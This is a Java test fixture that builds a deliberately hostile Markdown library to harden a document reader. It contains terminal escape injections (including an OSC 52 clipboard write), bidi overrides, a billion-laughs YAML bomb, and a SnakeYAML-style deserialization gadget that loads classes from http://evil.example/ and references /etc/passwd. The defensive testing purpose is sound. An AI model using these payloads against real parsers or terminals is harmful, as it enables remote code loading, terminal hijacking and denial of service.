package dev.lectern;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * A library written to break a reader (issue 14, "hostile content"): terminal escapes (ESC, CSI,
 * OSC 0 title, OSC 8 link, OSC 52 clipboard), C1 controls and bidi overrides in titles, deks,
 * bodies, glossary terms and track names; a 3 MB line; a 400-column table; math bombs; YAML
 * bombs (billion laughs, {@code !!java} tags); invalid UTF-8; a binary file named .md (NUL bytes: a
 * file with a NUL is binary, so the controls above leave it out); a symlink
 * loop; 20,000 nested quotes. Every essay also has a plain word, {@code needle}, to search for.
 */
public final class HostileLibrary {
    /** Every kind of control a file could smuggle in, in one string. */
    public static final String CONTROLS = "\u001b[2J\u001b[31mred\u001b[0m \u001b]0;owned title\u0007 \u001b]52;c;ZWNobyBvd25lZA==\u0007 "
            + "\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ \u009b31m \u0085\u008d\u009d "
            + "\u202eevil\u202c \u2066iso\u2069 \u200fmark\u0008bs\u007fdel\r";

    /** The slugs of the essays a reader can open (the others are refused at load: binary, bad YAML). */
    public static final String[] READABLE = {"controls", "long-line", "wide-table", "math-bomb", "deep-quote", "bad-utf8"};

    private HostileLibrary() {
    }

    public static Path write(Path root) throws IOException {
        Fixtures.write(root, "library.md", "---\nid: hostile\ntitle: \"Hostile " + yaml(CONTROLS) + "\"\ndek: \"dek " + yaml(CONTROLS)
                + "\"\n---\n\n# Hostile\n\n" + CONTROLS + "\n");
        Fixtures.write(root, "tracks/evil.md", "---\ntitle: \"Track " + yaml(CONTROLS) + "\"\ndek: \"d " + yaml(CONTROLS)
                + "\"\nessays: [controls, long-line]\n---\n\n# Track\n\n" + CONTROLS + "\n");
        Fixtures.write(root, "glossary.md", "# Glossary\n\n## Needle" + CONTROLS.replace("\r", "") + "\n\nAlso: needle\n\nA term "
                + CONTROLS + " defined.\n\n## Softmax\n\nScores " + CONTROLS + " to probabilities.\n");
        Fixtures.write(root, "essays/controls.md", "---\ntitle: \"Controls " + yaml(CONTROLS) + "\"\ndek: \"Dek " + yaml(CONTROLS)
                + "\"\nlevel: intro\ntags: [\"t" + yaml(CONTROLS) + "\"]\n---\n\n# Heading " + CONTROLS.replace("\r", "")
                + "\n\nneedle in a body: " + CONTROLS + "\n\n```python\nprint('" + CONTROLS.replace("\r", "").replace("'", "")
                + "')\n```\n\n[a link " + CONTROLS.replace("\r", "") + "](https://example.org/\u001b]52;c;x\u0007)\n\n| a | b |\n|---|---|\n| "
                + CONTROLS.replace("\r", "").replace("|", "") + " | x |\n");
        Fixtures.write(root, "essays/long-line.md", "---\ntitle: Long line\nlevel: intro\n---\n\n# Long\n\nneedle "
                + "word ".repeat(600_000) + "\n\n" + "x".repeat(200_000) + "\n");
        StringBuilder table = new StringBuilder("---\ntitle: Wide table\nlevel: intro\n---\n\n# Table\n\nneedle\n\n|");
        for (int c = 0; c < 80; c++) table.append(" col").append(c).append(" |");
        table.append("\n|").append("---|".repeat(80)).append('\n');
        for (int r = 0; r < 20; r++) {
            table.append('|');
            for (int c = 0; c < 80; c++) table.append(" cell ").append(r).append(' ').append(c).append(" |");
            table.append('\n');
        }
        Fixtures.write(root, "essays/wide-table.md", table.toString());
        Fixtures.write(root, "essays/math-bomb.md", "---\ntitle: Math bomb\nlevel: intro\n---\n\n# Math\n\nneedle\n\n$$\n"
                + "\\frac{".repeat(2000) + "x" + "}{y}".repeat(2000) + "\n$$\n\n$$\n" + "\\sqrt{".repeat(3000) + "z" + "}".repeat(3000)
                + "\n$$\n\nInline $" + "x^{".repeat(1000) + "2" + "}".repeat(1000) + "$ and $\\begin{matrix}" + "a & ".repeat(5000)
                + "\\end{matrix}$.\n");
        Fixtures.write(root, "essays/deep-quote.md", "---\ntitle: Deep quote\nlevel: intro\n---\n\n# Deep\n\nneedle\n\n"
                + "> ".repeat(20_000) + "bottom\n\n" + "- ".repeat(3_000) + "deep item\n");
        StringBuilder laughs = new StringBuilder("---\ntitle: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            laughs.append("x").append(c).append(": &").append(c).append(" [");
            for (int i = 0; i < 9; i++) laughs.append(i == 0 ? "" : ",").append('*').append((char) (c - 1));
            laughs.append("]\n");
        }
        Fixtures.write(root, "essays/yaml-bomb.md", laughs + "---\n\n# Laughs\n\nneedle\n");
        Fixtures.write(root, "essays/yaml-java.md", "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader "
                + "[[!!java.net.URL [\"http://evil.example/\"]]]]\ndek: !!java.io.File \"/etc/passwd\"\n---\n\n# Java\n\nneedle\n");
        byte[] bad = ("---\ntitle: Bad UTF-8\nlevel: intro\n---\n\n# Bad\n\nneedle \u00ff\u00fe").getBytes(java.nio.charset.StandardCharsets.ISO_8859_1);
        byte[] tail = {(byte) 0xc3, (byte) 0x28, (byte) 0xa0, (byte) 0xa1, (byte) 0xe2, (byte) 0x28, (byte) 0xa1, (byte) 0xf0, (byte) 0x28,
            (byte) 0x8c, (byte) 0xbc, (byte) 0xed, (byte) 0xa0, (byte) 0x80, '\n'};
        Files.write(root.resolve("essays/bad-utf8.md"), concat(bad, tail));
        byte[] binary = new byte[64 * 1024];
        new java.util.Random(7).nextBytes(binary);
        Files.write(root.resolve("essays/binary.md"), binary);
        try {
            Files.createDirectories(root.resolve("essays/loop"));
            Files.createSymbolicLink(root.resolve("essays/loop/again"), root.resolve("essays"));
            Files.createSymbolicLink(root.resolve("essays/self.md"), root.resolve("essays/self.md"));
        } catch (UnsupportedOperationException | IOException e) {
            // a file system without symlinks: the rest of the library still tests everything else
        }
        return root;
    }

    /** Inside a double-quoted YAML string: escapes that YAML itself would otherwise reject. */
    private static String yaml(String s) {
        StringBuilder b = new StringBuilder();
        for (char c : s.toCharArray()) {
            if (c == '"' || c == '\\') b.append('\\').append(c);
            else if (c < 0x20 || (c >= 0x7f && c < 0xa0) || (c >= 0x2066 && c <= 0x2069) || (c >= 0x202a && c <= 0x202e) || c == 0x200f) {
                b.append(String.format("\\u%04x", (int) c));
            } else b.append(c);
        }
        return b.toString();
    }

    private static byte[] concat(byte[] a, byte[] b) {
        byte[] out = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, out, a.length, b.length);
        return out;
    }
}
